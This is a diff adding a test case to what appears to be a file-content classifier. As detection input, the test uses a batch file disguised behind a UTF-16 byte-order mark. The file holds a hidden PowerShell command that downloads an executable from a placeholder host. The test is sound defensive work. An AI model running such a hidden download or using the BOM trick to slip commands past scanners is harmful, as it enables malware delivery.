@@ -89,4 +89,12 @@ TEST_CASE("a page behind another file's beginning is a polyglot, one behind its 
       has_trait(read_named("-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\n" + prose, "letter.asc"), "file.polyglot"));
 }
 
+TEST_CASE("a batch file behind the mark of UTF-16 is read as the command line reads it") {
+  const std::string bytes = "\xFF\xFE&cls\r\npowershell -w hidden iwr https://far.example/x -o x.exe\r\n";
+  const auto document = read_named(bytes, "a.cmd");
+  CHECK(has_trait(document, "script.shell"));
+  CHECK(has_trait(document, "script.download"));
+  CHECK(links_to(document, "https://far.example/x"));
+}
+
 }  // namespace sekisho::content
